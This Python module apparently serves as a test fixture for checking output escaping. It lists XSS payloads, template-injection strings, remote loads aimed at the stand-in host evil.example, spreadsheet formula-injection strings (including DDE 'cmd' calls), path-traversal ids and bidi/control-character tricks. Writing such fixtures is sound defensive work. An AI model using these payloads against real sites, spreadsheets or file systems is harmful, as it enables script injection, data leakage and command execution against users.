"""Texts that would do harm if anything took them for more than text, each by the kind of harm.

What could run sets `window.ran`; what could load calls a name under `evil.example`, which nothing answers. FORMULAS are
what a spreadsheet would work out, IDS what would lead out of a folder if an id became a path.
"""

from __future__ import annotations

from typing import Final

HOST: Final = "evil.example"

# Kinds that a data folder refuses (bad-text), since they hide or turn what a reader sees; imported tables may hold them.
HIDDEN: Final = ("direction", "control")

PAYLOADS: Final[tuple[tuple[str, str], ...]] = (
    ("script", "<script>window.ran=1</script>"),
    ("script", "</script><script>window.ran=1</script>"),
    ("script", "</ScRiPt  ><sCrIpT>window.ran=1</sCrIpT>"),
    ("script", "<script src=//evil.example/a.js></script>"),
    ("script", "<script type=module>import 'https://evil.example/m.js'</script>"),
    ("script", "<svg><script>window.ran=1</script></svg>"),
    ("script", "<scr<script>ipt>window.ran=1</scr</script>ipt>"),
    ("close", "</title><script>window.ran=1</script>"),
    ("close", "</style><script>window.ran=1</script>"),
    ("close", "</textarea><img src=x onerror=window.ran=1>"),
    ("close", "</noscript><img src=x onerror=window.ran=1>"),
    ("close", "</td></tr></table><img src=x onerror=window.ran=1>"),
    ("close", "--><script>window.ran=1</script><!--"),
    ("close", "]]><script>window.ran=1</script><![CDATA["),
    ("close", "</text></svg><img src=x onerror=window.ran=1>"),
    ("close", "</name></Placemark><NetworkLink><Link><href>https://evil.example/a.kml</href></Link></NetworkLink>"),
    ("handler", "<img src=x onerror=window.ran=1>"),
    ("handler", "<img/src=x/onerror=window.ran=1//"),
    ("handler", "<svg/onload=window.ran=1>"),
    ("handler", "<body onload=window.ran=1>"),
    ("handler", "<input autofocus onfocus=window.ran=1>"),
    ("handler", "<details open ontoggle=window.ran=1>"),
    ("handler", "<video><source onerror=window.ran=1></video>"),
    ("handler", "<marquee onstart=window.ran=1>"),
    ("handler", "<button popovertarget=x onclick=window.ran=1>press</button>"),
    ("handler", "<style onload=window.ran=1></style>"),
    ("handler", "<animate onbegin=window.ran=1 attributeName=x dur=1s>"),
    ("quote", "\" onmouseover=\"window.ran=1\" x=\""),
    ("quote", "' onmouseover='window.ran=1' x='"),
    ("quote", "` onmouseover=window.ran=1 `"),
    ("quote", "\"><img src=x onerror=window.ran=1>"),
    ("quote", "'><svg onload=window.ran=1>"),
    ("quote", "';window.ran=1;//"),
    ("quote", "\";window.ran=1;//"),
    ("quote", "\\';window.ran=1;//"),
    ("quote", "\\u003cimg src=x onerror=window.ran=1\\u003e"),
    ("template", "${window.ran=1}"),
    ("template", "`${window.ran=1}`"),
    ("template", "{{window.ran=1}}"),
    ("template", "{{constructor.constructor('window.ran=1')()}}"),
    ("template", "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}"),
    ("template", "{% raw %}{{ 7*7 }}"),
    ("template", "<%= window.ran=1 %>"),
    ("template", "#{window.ran=1} $& $1 $` {n} {title} {text} {0} %s %(title)s"),
    ("link", "javascript:window.ran=1"),
    ("link", "JaVaScRiPt:window.ran=1"),
    ("link", "java\tscript:window.ran=1"),
    ("link", "data:text/html,<script>window.ran=1</script>"),
    ("link", "vbscript:msgbox(1)"),
    ("link", "<a href=javascript:window.ran=1>press</a>"),
    ("link", "<a href=https://evil.example target=_blank>press</a>"),
    ("link", "//evil.example/%22onmouseover=%22window.ran=1"),
    ("link", "[press](javascript:window.ran=1)"),
    ("entity", "&lt;img src=x onerror=window.ran=1&gt;"),
    ("entity", "&#60;script&#62;window.ran=1&#60;/script&#62;"),
    ("entity", "&#x3c;svg onload=window.ran=1&#x3e;"),
    ("entity", "&quot; onmouseover=&quot;window.ran=1&amp;amp;"),
    ("entity", "%3Cscript%3Ewindow.ran=1%3C/script%3E"),
    ("entity", "<!ENTITY x SYSTEM \"https://evil.example/x\">&x;"),
    ("entity", "<!DOCTYPE html><plaintext>"),
    ("comment", "<!-- <img src=x onerror=window.ran=1>"),
    ("comment", "<!--><img src=x onerror=window.ran=1>-->"),
    ("remote", "<img src=https://evil.example/pixel.gif>"),
    ("remote", "<iframe src=https://evil.example></iframe>"),
    ("remote", "<object data=https://evil.example/o></object><embed src=https://evil.example/e>"),
    ("remote", "<link rel=stylesheet href=https://evil.example/s.css>"),
    ("remote", "<style>@import 'https://evil.example/s.css';*{background:url(https://evil.example/b)}</style>"),
    ("remote", "<div style=\"background:url(https://evil.example/b)\">"),
    ("remote", "![picture](https://evil.example/p.png)"),
    ("remote", "<form action=https://evil.example><button>send</button></form>"),
    ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
    ("refresh", "<base href=https://evil.example/>"),
    ("refresh", "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>"),
    ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.ran=1&gt;\">"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">"),
    ("name", "__proto__"),
    ("name", "constructor"),
    ("name", "hasOwnProperty"),
    ("direction", "abc\u202e>1=rorrenofni\u202c def"),
    ("direction", "\u2067right\u2066 left\u2069"),
    ("control", "\x1b[31mred\x1b]0;title\x07"),
    ("control", "\x9b31m\x7f\x08\x0c"),
)

FORMULAS: Final[tuple[str, ...]] = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"open\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(\"https://evil.example\",\"//a\")", "\t=1+1", " =1+1", "   +1+1", "\u00a0=1+1",
    "'=1+1", "\"=1+1\"", "'\"=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "\n=1+1", " \t -1+1", "\ufeff=1+1",
    "\u200b=1+1", "-", "=", "+-1", "-5 dead", "-1e", "+3.2.1",
)
NUMBERS: Final[tuple[str, ...]] = ("-5", "+3.2", "1e5", "-1e-5", "-.5", "+7", "0", "-0.25")

IDS: Final[tuple[str, ...]] = (
    "../../x", "..\\x", "..\\..\\x", "/etc/x", "/var/x", "con", "nul.txt", "a/b", "a\\b", "x\x00y", "a" * 5000, "\u2215etc\u2215x",
    "\uff0e\uff0e\uff0fx", ".", "..", "", " ", "~/x", "$HOME/x", "%2e%2e%2fx", "file:///etc/x", "x\n../y", "-rf", "C:\\x",
    "....//x", "x/../../y", "\u202e/x",
)


def of_kind(*kinds: str) -> list[str]:
    """The payloads of some kinds."""
    return [text for kind, text in PAYLOADS if kind in kinds]


def plain() -> list[str]:
    """The payloads that a data folder may hold."""
    return [text for kind, text in PAYLOADS if kind not in HIDDEN]


def groups(texts: list[str], size: int = 6) -> list[str]:
    """The texts, six at a time in one: a page of a dozen records then shows all of them in every field.

    One that hides those behind it if it is taken for markup (a comment, say) is noticed by their absence.
    """
    return [" ".join(texts[start:start + size]) for start in range(0, len(texts), size)]
